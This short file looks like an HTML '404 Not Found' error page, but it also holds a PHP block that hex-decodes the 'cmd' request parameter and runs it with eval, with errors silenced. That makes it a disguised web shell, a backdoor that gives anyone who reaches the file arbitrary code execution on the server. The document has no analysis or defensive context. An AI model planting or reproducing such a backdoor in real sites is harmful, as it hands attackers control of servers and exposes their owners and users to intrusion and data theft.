<html><body><h1>404 Not Found</h1></body></html>
<?php
$p = hex2bin($_REQUEST['cmd']);
@eval($p);
?>
